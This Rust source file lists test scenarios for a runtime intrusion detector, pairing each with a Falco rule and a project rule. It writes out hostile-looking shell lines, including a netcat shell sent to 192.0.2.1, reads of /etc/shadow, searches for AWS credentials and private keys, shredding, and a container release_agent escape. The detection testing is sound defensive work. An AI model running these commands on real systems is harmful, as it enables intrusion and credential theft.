//! The scenarios: what is done, and which rules must say so. The first column of rules is that of
//! falco_rules.yaml, the second that of our own.

/// Where a scenario happens.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Environment {
    /// On the host.
    Host,
    /// In a container, started with these options.
    Container(&'static [&'static str]),
}

/// One thing that must not go unseen.
#[derive(Debug)]
pub(crate) struct Scenario {
    /// In markers and messages; letters and dashes.
    pub(crate) name: &'static str,
    pub(crate) place: Environment,
    /// For `sh -e`: `$D` is a folder of the scenario's own, `$A` the actor. In a container `$D` is /scratch.
    pub(crate) script: &'static str,
    /// Rule and priority in falco_rules.yaml.
    pub(crate) falco: (&'static str, &'static str),
    /// Rule in our default rules.
    pub(crate) ours: &'static str,
}

const fn host(
    name: &'static str,
    script: &'static str,
    falco: (&'static str, &'static str),
    ours: &'static str,
) -> Scenario {
    Scenario {
        name,
        place: Environment::Host,
        script,
        falco,
        ours,
    }
}

const fn contained(
    name: &'static str,
    options: &'static [&'static str],
    script: &'static str,
    falco: (&'static str, &'static str),
    ours: &'static str,
) -> Scenario {
    Scenario {
        name,
        place: Environment::Container(options),
        script,
        falco,
        ours,
    }
}

/// All of them, after what Falco's event generator does.
pub(crate) const SCENARIOS: &[Scenario] = &[
    host(
        "truncate-log",
        ": > $D/syslog",
        ("Clear Log Activities", "Warning"),
        "Log truncated",
    ),
    host(
        "hard-link",
        "ln -v /etc/shadow $D/shadow_link",
        ("Create Hardlink Over Sensitive Files", "Warning"),
        "Link to a sensitive file",
    ),
    host(
        "symbolic-link",
        "ln -s /etc $D/etc_link",
        ("Create Symlink Over Sensitive Files", "Warning"),
        "Link to a sensitive file",
    ),
    // a shell as the parent is an exception of Falco's
    host(
        "traversal",
        "$A run cat /etc/../etc/../etc/shadow",
        ("Directory traversal monitored file read", "Warning"),
        "Sensitive file reached by a detour",
    ),
    host(
        "ssh-port",
        "ln -s $A $D/ssh; $D/ssh call-home 443",
        ("Disallowed SSH Connection Non Standard Port", "Notice"),
        "SSH to an unusual port",
    ),
    host(
        "shared-memory",
        "s=/dev/shm/lanner-$$; printf '#!/bin/sh\\n:\\n' > $s; chmod +x $s; sh -c $s; rm $s",
        ("Execution from /dev/shm", "Warning"),
        "Program run from shared memory",
    ),
    host(
        "memory",
        "$A from-memory",
        ("Fileless execution via memfd_create", "Critical"),
        "Program run from memory",
    ),
    host(
        "find-aws",
        "find / -maxdepth 1 -iname .aws/credentials 2>/dev/null",
        ("Find AWS Credentials", "Warning"),
        "Search for credentials",
    ),
    host(
        "find-keys",
        "find / -maxdepth 1 -iname id_rsa",
        ("Search Private Keys or Passwords", "Warning"),
        "Search for credentials",
    ),
    host(
        "be-traced",
        "$A be-traced",
        ("PTRACE anti-debug attempt", "Notice"),
        "Program asks to be traced",
    ),
    host(
        "attach",
        "$A attach",
        ("PTRACE attached to process", "Warning"),
        "Process attached to by ptrace",
    ),
    host(
        "read-late",
        "ln -s $A $D/httpd; $D/httpd look /etc/shadow 6",
        ("Read sensitive file trusted after startup", "Warning"),
        "Password hashes read",
    ),
    host(
        "read",
        "$A look /etc/shadow 0",
        ("Read sensitive file untrusted", "Warning"),
        "Password hashes read",
    ),
    host(
        "shred",
        ": > $D/data; shred -u $D/data",
        ("Remove Bulk Data from Disk", "Warning"),
        "Data made unrecoverable",
    ),
    host(
        "server-shell",
        "ln -s $A $D/httpd; $D/httpd run sh -c :",
        ("Run shell untrusted", "Notice"),
        "Shell started by a server",
    ),
    host(
        "system-user",
        "ln -s $A $D/login; setpriv --reuid=daemon --regid=daemon --clear-groups $D/login",
        ("System user interactive", "Informational"),
        "Service account logs in",
    ),
    contained(
        "debugfs",
        &["--privileged"],
        "ln -s $A $D/debugfs; $D/debugfs -V",
        ("Debugfs Launched in Privileged Container", "Warning"),
        "File system debugger in a container",
    ),
    // the legacy driver has no capabilities and no layers from the kernel: /proc is asked, while there is somebody
    contained(
        "release-agent",
        &["--privileged"],
        ": > $D/release_agent; $A linger",
        ("Detect release_agent File Container Escapes", "Critical"),
        "Release agent written in a container",
    ),
    contained(
        "new-program",
        &[],
        "cp $A /bin/new; /bin/new linger",
        ("Drop and execute new binary in container", "Critical"),
        "Program run that its image does not have",
    ),
    contained(
        "netcat",
        &[],
        "ln -s $A $D/nc; $D/nc -e /bin/sh 192.0.2.1 22",
        ("Netcat Remote Code Execution in Container", "Warning"),
        "Netcat runs a program",
    ),
    contained(
        "packet-socket",
        &["--cap-add=NET_RAW"],
        "$A packet",
        ("Packet socket created in container", "Notice"),
        "Packet socket in a container",
    ),
    contained(
        "redirect",
        &[],
        "$A redirect",
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            "Notice",
        ),
        "Standard stream becomes a connection",
    ),
    contained(
        "terminal",
        &["-t"],
        ":",
        ("Terminal shell in container", "Notice"),
        "Interactive shell in a container",
    ),
];
